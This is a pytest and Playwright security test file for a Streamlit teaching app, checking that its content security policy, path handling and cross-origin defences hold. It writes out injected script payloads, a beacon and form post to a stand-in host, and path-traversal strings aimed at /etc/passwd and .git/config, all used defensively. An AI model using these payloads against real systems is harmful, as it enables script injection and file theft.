"""What a browser may do with the app's pages, and what another site may do with the app."""

import http.client
import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.boards import open_board
from tests.browser.driving import HARMLESS, Visitor, settled
from tools.serving import Server
from ui.server import document
from ui.server.headers import Scripts, hashed

PAGES = sorted(route.path for route in document.routes())

LISTEN = """document.addEventListener("securitypolicyviolation", (event) => {
  window.told(`${event.effectiveDirective} ${event.blockedURI}`)
})"""

LONG_NUMBERS = "script-src wasm-eval"
"""A library of Streamlit's tries WebAssembly for numbers of 64 bits, and does without it where it
may not: the one thing that the policy forbids and that is asked for."""


class Watched:
    """A visitor for whom no host but the server's can be reached, and who notes what is forbidden.

    Whatever any visitor asks of another host is a fault: `Visitor`.
    """

    def __init__(self, browser: Browser, server: Server, **options: Any) -> None:
        self.visitor = Visitor(browser, **options)
        self.forbidden: list[str] = []
        self.gone_out: list[str] = []
        here = (server.url, "data:", "blob:")
        context = self.visitor.context
        context.route(lambda url: not url.startswith(here), self._stop)
        context.expose_binding("told", lambda _source, told: self.forbidden.append(told))
        context.add_init_script(LISTEN)

    def _stop(self, route: Route) -> None:
        self.gone_out.append(route.request.url)
        route.abort()

    def has_kept_to_it(self) -> bool:
        """Whether nothing was asked for that is forbidden or lies elsewhere."""
        assert self.visitor.faults == []
        return set(self.forbidden) <= {LONG_NUMBERS}


@pytest.mark.long
@pytest.mark.parametrize("locale", ["en-GB", "zh-CN"])
def test_every_page_keeps_to_the_policy_and_to_the_server(
    server: Server, browser: Browser, locale: str
) -> None:
    watched = Watched(browser, server, locale=locale)
    page = watched.visitor.open()
    for path in [*PAGES, "/learn?lesson=h-is-not-c&beat=do"]:
        page.goto(server.url + path)
        settled(page)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert watched.has_kept_to_it()
    watched.visitor.leave()


def test_files_and_the_projector_keep_to_it_and_what_is_put_in_does_nothing(
    class_server: Server, browser: Browser
) -> None:
    watched = Watched(browser, class_server)
    page = watched.visitor.open()
    open_board(page, f"{class_server.url}/lab?cell=GRU&units=2&timesteps=4")
    take_everything(page)
    page.goto(f"{class_server.url}/classroom?to=%2Flab%3Funits%3D2")
    expect(page.locator(".u-address")).to_be_visible()
    expect(page.get_by_role("img", name="QR code of")).to_be_visible()
    settled(page)
    assert watched.has_kept_to_it()

    watched.forbidden.clear()
    attack(page)
    told = set(watched.forbidden)
    assert told >= FORBIDDEN, FORBIDDEN - told
    assert page.evaluate("window.ran") is None
    # Each attempt was told of in the console, and rightly. None of them got as far as a network.
    assert watched.gone_out == []
    watched.visitor.faults.clear()
    watched.visitor.leave()


FORBIDDEN = {
    *("script-src-elem inline", "script-src-attr inline", "script-src eval"),
    *("script-src-elem https://elsewhere.test/a.js", "img-src https://elsewhere.test/a.png"),
    *("style-src-elem https://elsewhere.test/a.css", "frame-src https://elsewhere.test"),
    *("connect-src https://elsewhere.test/", "connect-src wss://elsewhere.test/"),
    *("form-action https://elsewhere.test/", "base-uri https://elsewhere.test/"),
    *("worker-src blob", "object-src https://elsewhere.test", "media-src data"),
}
"""What the browser has to tell of each thing that `attack` does."""


def take_everything(page: Page) -> None:
    """Have every kind of file made, of the lab."""
    page.get_by_role("button", name="Take away").click()
    for name in ("py", "ipynb", "csv", "npz", "html", "SVG", "PNG"):
        with page.expect_download() as download:
            page.get_by_role("button", name=re.compile(rf"\b{name}$")).first.click()
        assert download.value.suggested_filename.endswith(name.lower())


def attack(page: Page) -> None:
    """Do what somebody would whose markup got onto the page after all."""
    page.evaluate(
        """async () => {
          const add = (name, values) => {
            const element = Object.assign(document.createElement(name), values)
            document.body.append(element)
            return element
          }
          const there = "https://elsewhere.test/"
          const attempts = [
            () => add("script", { text: "window.ran = 'inline'" }),
            () => add("script", { src: there + "a.js" }),
            () => add("div", { innerHTML: "<img src='data:,' onerror='window.ran = 1'>" }),
            () => add("a", { href: "javascript:window.ran = 'link'" }).click(),
            () => setTimeout("window.ran = 'text'", 0),
            () => new Function("window.ran = 'function'")(),
            () => add("img", { src: there + "a.png" }),
            () => add("link", { rel: "stylesheet", href: there + "a.css" }),
            () => add("iframe", { src: there }),
            () => add("object", { data: there }),
            () => add("audio", { src: "data:audio/wav;base64,AAAA" }),
            () => fetch(there),
            () => new WebSocket("wss://elsewhere.test/"),
            () => navigator.sendBeacon(there, "all of it"),
            () => new Worker(URL.createObjectURL(new Blob(["0"]))),
            () => add("base", { href: there }),
            () => add("form", { action: there, method: "post" }).submit(),
          ]
          for (const attempt of attempts) {
            // Not now: what a debugger evaluates is free of any policy.
            await new Promise((resolve) => setTimeout(resolve))
            try { await attempt() } catch {}
          }
          await new Promise((resolve) => setTimeout(resolve, 100))
        }"""
    )


def asked(server: Server, path: str) -> tuple[int, dict[str, str], str]:
    """What is answered to a path as it stands, which no client tidies up."""
    connection = http.client.HTTPConnection("localhost", server.port, timeout=60)
    connection.request("GET", path)
    answer = connection.getresponse()
    body = answer.read().decode("utf-8", "replace")
    headers = {name.lower(): text for name, text in answer.getheaders()}
    connection.close()
    return answer.status, headers, body


ROUTES = ("", "/static", "/static/js", "/media", "/s", "/component/x", "/_stcore/bidi-components/x")

CLIMBS = (
    *("/../app.py", "/..%2fapp.py", "/%2e%2e/%2e%2e/app.py", "/..%5c..%5capp.py"),
    *(
        "//app.py",
        "/....//app.py",
        "/%00app.py",
        "/C:/app.py",
        "/app.py",
        "/.streamlit/config.toml",
    ),
    *("/%252e%252e%252fapp.py", "/requirements.txt", "/.git/config", "/%2fetc%2fpasswd"),
)


def test_every_answer_has_the_policy_and_no_file_of_ours_is_one(server: Server) -> None:
    paths = ["/", "/lab", "/nowhere", "/static/", "/static/js", "/_stcore/health", "/s/zzzz"]
    paths += [f"{route}{climb}" for route in ROUTES for climb in CLIMBS]
    secret = (
        "st.App(",
        "[runner]",
        "root:x:0",
        "repositoryformatversion",
        "streamlit==",
        "Traceback",
    )
    for path in paths:
        status, headers, body = asked(server, path)
        assert status in {200, 301, 302, 400, 404}, path
        policy = headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff", path
        assert not any(word in body for word in secret), path
        assert "Index of" not in body, path
        if "<html" in body:  # a name that is no page's is answered with Streamlit's own document
            assert all(hashed(script) in policy for script in Scripts(body).texts), path


OTHER_SITE = """<!doctype html><title>Another site</title>
<iframe src="{url}/"></iframe>
<script>
  window.told = []
  const end = (name) => new Promise((resolve) => {{ window[name] = resolve }})
  const socket = new WebSocket("{ws}/_stcore/stream", ["streamlit"])
  socket.onopen = () => told.push("connected")
  socket.onclose = () => told.push("socket closed")
  for (const path of ["/", "/_stcore/host-config"]) {{
    fetch("{url}" + path).then(() => told.push("read"), () => told.push("not read"))
  }}
  const image = new Image()
  image.onload = () => told.push("seen")
  image.onerror = () => told.push("not seen")
  image.src = "{url}/favicon.png"
</script>"""


@contextmanager
def site(html: str) -> Iterator[str]:
    """Another site, on this machine: the address of its page."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_said: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as there:
        threading.Thread(target=there.serve_forever, daemon=True).start()
        yield f"http://localhost:{there.server_address[1]}/"
        there.shutdown()


def test_another_site_can_neither_connect_nor_read_nor_show_the_app(
    server: Server, visitor: Callable[..., Visitor]
) -> None:
    victim = visitor()
    page = victim.open()
    errors: list[str] = []
    page.on("websocket", lambda socket: socket.on("socketerror", lambda e: errors.append(e)))
    html = OTHER_SITE.format(url=server.url, ws=server.url.replace("http", "ws"))
    with site(html) as address:
        page.goto(address)
        page.wait_for_function("() => window.told.length === 4")
        assert sorted(page.evaluate("window.told")) == [
            *("not read", "not read", "not seen", "socket closed")
        ]
        assert ["403" in error for error in errors] == [True]
        frame = page.frames[1]
        expect(frame.get_by_test_id("stApp")).to_have_count(0)
        assert frame.url.startswith("chrome-error:")
    # The console told of each of these, and of nothing else.
    assert all(not HARMLESS.search(fault) for fault in victim.faults)
    victim.faults.clear()
